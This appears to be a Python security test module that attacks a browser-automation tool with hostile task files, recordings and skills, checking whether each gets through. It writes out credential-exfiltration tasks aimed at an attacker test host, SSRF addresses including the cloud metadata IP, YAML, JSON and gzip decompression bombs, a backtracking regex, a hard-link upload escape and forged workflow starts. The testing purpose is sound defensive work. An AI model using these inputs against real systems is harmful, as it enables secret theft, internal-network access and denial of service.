"""Doors that are knocked at with files and starts: tasks, recordings, skills, and a start without a key."""

import asyncio
import gzip
import os
import time
from collections.abc import Sequence
from typing import Any

from temporalio.client import Client

from bench.doors.ground import Ground
from bench.doors.knocks import Knock, forged_start
from bench.doors.store import put_back
from bench.doors.tree import Socket

_METADATA = "169.254.169.254"
_LONGEST_S = 30.0
"""For a task whose pattern would take minutes to compare."""
_BAD_INPUT = 2
"""Exit status of a command that refuses a file."""
_FIELD = {"css": "#password"}


def _sign_in(here: Ground, secret: str) -> dict[str, Any]:
    """A task that enters a secret on the attacker's site."""
    return {
        "task": "sign-in",
        "url": f"http://{here.attacker.host}/login",
        "secrets": [secret],
        "policy": {"hosts": {"allow": ["127.0.0.0/8"]}},
        "steps": [
            {
                "action": "fill",
                "instruction": "the password field",
                "target": _FIELD,
                "value": f"{{{{secret:{secret}}}}}",
            },
            {
                "action": "click",
                "instruction": "the sign in button",
                "target": {"role": "button", "name": "Sign in"},
                "effect": "commit",
            },
        ],
        "verify": [{"text_contains": "Thank you"}],
    }


def _visit(url: str) -> dict[str, Any]:
    """A task that opens one address, which its own policy allows."""
    steps = [{"action": "goto", "instruction": "the page", "url": url}]
    allow = ["127.0.0.0/8", "[::1]", _METADATA, "localhost"]
    return {
        "task": "visit",
        "url": url,
        "policy": {"hosts": {"allow": allow}},
        "steps": steps,
        "verify": [{"url_contains": "/"}],
    }


async def of_files(here: Ground) -> list[Knock]:
    """Everything that a task, a recording or a skill from elsewhere may try."""
    return [
        await _secret_by_task(here),
        await _secret_by_recording(here),
        await _secret_by_skill(here),
        await _command_by_skill(here),
        await _host_by_skill(here),
        *await _bombs(here),
        *await _addresses(here),
        await _hard_link(here),
        await _withdrawn(here),
        await _pattern(here),
    ]


async def _secret_by_task(here: Ground) -> Knock:
    file = here.written("sign-in.yaml", _sign_in(here, "PASSWORD"))
    _, output = await here.command("run", file, "--mode", "replay")
    return Knock("secrets", "a task file", "enters an unbound secret on its own site", _leaked(here), _last(output))


async def _secret_by_recording(here: Ground) -> Knock:
    recording = {
        "title": "Sign in",
        "steps": [
            {"type": "navigate", "url": f"http://{here.attacker.host}/login"},
            {"type": "change", "value": "typed", "selectors": [["aria/Password"], ["#password"]], "target": "main"},
            {"type": "click", "selectors": [["aria/Sign in"]], "target": "main", "offsetX": 5, "offsetY": 5},
        ],
    }
    file, task = here.written("recording.json", recording), str(here.folder / "imported.yaml")
    await here.command("import", file, "--out", task)
    _, output = await here.command("run", task, "--mode", "replay")
    return Knock("secrets", "an imported recording", "enters a secret on its own site", _leaked(here), _last(output))


async def _secret_by_skill(here: Ground) -> Knock:
    skill = {"name": "sign-in", "label": "Sign in", "description": "Sign in.", "task": _sign_in(here, "PASSWORD")}
    await here.command("skills", "import", here.written("skills.yaml", {"skills": [skill]}))
    _, output = await here.command("skills", "run", "sign-in")
    return Knock("secrets", "an imported skill", "enters a secret on its own site", _leaked(here), _last(output))


async def _command_by_skill(here: Ground) -> Knock:
    """A skill that says what to run for a secret, and one that names a secret which an unbound command prints."""
    printed = here.folder / "printed"
    printed.unlink(missing_ok=True)
    told = _sign_in(here, "PRINTED") | {"task": "printed"}
    del told["policy"]  # nothing but the binding that is missing shall be in its way
    await here.command("admin", "hosts", "allow", here.attacker.host)
    skill = {"name": "printed", "label": "Sign in", "description": "Sign in.", "task": told}
    own = skill | {"task": told | {"secrets": [{"name": "PRINTED", "command": f"touch {printed}"}]}}
    taken, _ = await here.command("skills", "import", here.written("own-command.yaml", {"skills": [own]}))
    await here.command("skills", "import", here.written("printed.yaml", {"skills": [skill]}))
    _, output = await here.command("skills", "run", "printed")
    is_through = taken == 0 or printed.exists() or _leaked(here)
    return Knock("commands", "an imported skill", "has one run for a secret", is_through, _last(output))


async def _host_by_skill(here: Ground) -> Knock:
    task = _visit(f"http://{here.canary.host}/from-a-skill") | {"task": "inside"}
    skill = {"name": "inside", "label": "Visit", "description": "Visit.", "task": task}
    await here.command("skills", "import", here.written("inside.yaml", {"skills": [skill]}))
    status, output = await here.command("skills", "run", "inside")
    is_through = status == 0 or bool(here.canary.requests)
    here.canary.requests.clear()
    return Knock(f"http://{here.canary.host}", "an imported skill", "opens it", is_through, _last(output))


async def _bombs(here: Ground) -> list[Knock]:
    """Files that are small, and that become what fills the memory, takes for ever, or ends the reader with a fault."""
    aliases = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
    merges = "".join(f"a{n}: &a{n} {{<<: [{', '.join([f'*a{n - 1}'] * 9)}]}}\n" for n in range(1, 12))
    deep = '{"steps": ' + "[" * 100_000
    doubled = "from playwright.sync_api import Page\ndef run(page: Page):\n    a = 'ab'\n" + "    a = a + a\n" * 60
    bombs: list[tuple[str, bytes, tuple[str, ...]]] = [
        ("aliases.yaml", f"a0: &a0 [x]\n{aliases}".encode(), ("skills", "import")),
        ("merges.yaml", f"a0: &a0 {{k: v}}\n{merges}".encode(), ("run",)),
        ("sixty.yaml", f"task: {'1:' * 1_000_000}1\n".encode(), ("run",)),
        ("deep.json", deep.encode(), ("skills", "import")),
        ("deep-recording.json", deep.encode(), ("import",)),
        ("doubled.py", f"{doubled}    page.goto(a)\n".encode(), ("import",)),
        ("long.py", b"await page." + b"A" * 1_000_000, ("import",)),
        ("deep.jsonl", deep.encode(), ("admin", "trace", "replay")),
        ("packed.yaml", gzip.compress(bytes(1 << 28)), ("skills", "import")),
    ]
    found = []
    for name, content, command in bombs:
        file = here.folder / name
        file.write_bytes(content)
        status, output = await here.command(*command, str(file), limit_s=_LONGEST_S)
        how = f"{name}, {len(content):,} bytes, read by `{' '.join(command)}`"
        found.append(Knock("files", "a file from elsewhere", how, status != _BAD_INPUT, _last(output)))
    return found


async def _addresses(here: Ground) -> list[Knock]:
    """Addresses that are not public, granted by nobody but the task itself."""
    found = []
    hosts = (here.canary.host, f"localhost:{here.canary.port}", f"0.0.0.0:{here.canary.port}", _METADATA)
    for host in (*hosts, f"[::ffff:127.0.0.1]:{here.canary.port}", f"2130706433:{here.canary.port}"):
        file = here.written("visit.yaml", _visit(f"http://{host}/from-a-task"))
        status, output = await here.command("run", file, "--mode", "replay")
        is_through = status == 0 or bool(here.canary.requests)
        here.canary.requests.clear()
        found.append(Knock(f"http://{host}", "a task file", "opens it", is_through, _last(output)))
    return found


async def own_services(here: Ground, sockets: Sequence[Socket], how: str) -> list[Knock]:
    """Tasks that name the stack's own servers."""
    found = []
    for each in sockets:
        file = here.written("visit.yaml", _visit(f"http://127.0.0.1:{each.port}/"))
        status, output = await here.command("run", file, "--mode", "replay")
        found.append(Knock(str(each), "a task file", how, status == 0, _last(output)))
    return found


async def allow_every_local_address(here: Ground) -> None:
    """Grant pages the whole network that the stack's own servers are in."""
    await here.command("admin", "hosts", "allow", "127.0.0.0/8:*", "[::1]:*", "localhost:*", _METADATA)


async def _pattern(here: Ground) -> Knock:
    """A pattern that backtracks for minutes on the attacker's own title."""
    task = _visit(f"http://{here.attacker.host}/{'a' * 40}!")
    task["verify"] = [{"url_matches": r"^http://[^/]*/(\w+\s?)*$"}]
    begun = time.monotonic()
    _, output = await here.command("run", here.written("pattern.yaml", task), "--mode", "replay", limit_s=_LONGEST_S)
    took_s = time.monotonic() - begun
    is_through = took_s >= _LONGEST_S
    return Knock(
        "regular expressions", "a task file", "compares for minutes", is_through, f"{took_s:.0f} s; {_last(output)}"
    )


async def _hard_link(here: Ground) -> Knock:
    """A file from outside the upload roots that is linked into one of them."""
    private = here.folder / "private.txt"
    private.write_text(f"private {here.password}")
    os.link(private, here.folder / "tmp" / "linked.txt")
    task = {
        "task": "upload",
        "url": f"http://{here.attacker.host}/upload",
        "steps": [
            {
                "action": "upload",
                "instruction": "the file field",
                "target": {"label": "File"},
                "files": [str(here.folder / "tmp" / "linked.txt")],
            },
            {
                "action": "click",
                "instruction": "the send button",
                "target": {"role": "button", "name": "Send file"},
                "effect": "commit",
            },
        ],
        "verify": [{"text_contains": "Thank you"}],
    }
    await here.command("admin", "hosts", "allow", here.attacker.host)
    _, output = await here.command("run", here.written("upload.yaml", task), "--mode", "replay")
    return Knock("upload roots", "another user's hard link", "is uploaded", _leaked(here), _last(output))


async def _withdrawn(here: Ground) -> Knock:
    """A retired skill whose older record somebody puts back into Redis."""
    task = _visit(f"http://{here.attacker.host}/x")
    del task["policy"]  # it asks for more than the operator grants here, and a skill that does not run shows nothing
    skill = {"name": "visit", "label": "Visit", "description": "Visit.", "task": task}
    await here.command("admin", "hosts", "allow", here.attacker.host)
    await here.command("skills", "import", here.written("visit-skill.yaml", {"skills": [skill]}))
    return await put_back(here, "visit")


async def of_starts(here: Ground) -> list[Knock]:
    """Starts by the user's own programs that carry no proof of the home's key."""
    address = here.running.temporal_address
    found = []
    for secret in ("PASSWORD", "BOUND"):
        ended = await forged_start(address, "replaywright", _sign_in(here, secret), f"forged/{secret.lower()}")
        is_bound = secret == "BOUND"  # noqa: S105 - a name
        how = f"enters {'a bound' if is_bound else 'an unbound'} secret"
        found.append(Knock("starts", "a start without a key", how, _leaked(here), ended[:200]))
    return found


async def begun_by_others(here: Ground) -> list[str]:
    """Ids of runs that knocks have begun."""
    client = await Client.connect(here.running.temporal_address)
    return [run.id async for run in client.list_workflows() if run.id.startswith("knocked")]


async def waiting_run(here: Ground) -> str:
    """Start a run that keeps its browser while it waits for a person; its id.

    Raises:
        RuntimeError: it was not started.
    """
    await here.command("admin", "hosts", "allow", here.attacker.host)
    task = _visit(f"http://{here.attacker.host}/login")
    del task["policy"]
    task["task"] = "waiting"
    task["steps"].append({"action": "approve", "instruction": "shall this go on?", "within_s": 3600})
    status, output = await here.command("run", here.written("waiting.yaml", task), "--mode", "replay", "--detach")
    if status:
        raise RuntimeError(f"the run that is to wait was not started: {output}")
    deadline = time.monotonic() + 60
    while "waiting" not in (await here.command("answer"))[1]:
        if time.monotonic() > deadline:
            raise RuntimeError(f"the run does not wait: {(await here.command('runs'))[1]}")
        await asyncio.sleep(0.5)
    return next(word for word in output.split() if word.startswith("waiting/"))


async def driven_page(here: Ground, key: str) -> str:
    """Show the attacker's knocking page in a browser that we drive; what the run printed."""
    task = _visit(f"http://{here.attacker.host}/knock?who={key}")
    task["verify"] = [{"text_contains": "looked everywhere"}]
    file = here.written("knock.yaml", task)
    return _last((await here.command("run", file, "--mode", "replay"))[1])


def _leaked(here: Ground) -> bool:
    """Tell if the attacker has a secret now, and forget that it was asked."""
    had = here.attacker.got(here.password) or here.attacker.got(here.bound)
    here.attacker.requests.clear()
    return had


def _last(output: str) -> str:
    lines = [line for line in output.splitlines() if line.strip()]
    return " / ".join(lines[-2:])[:200]
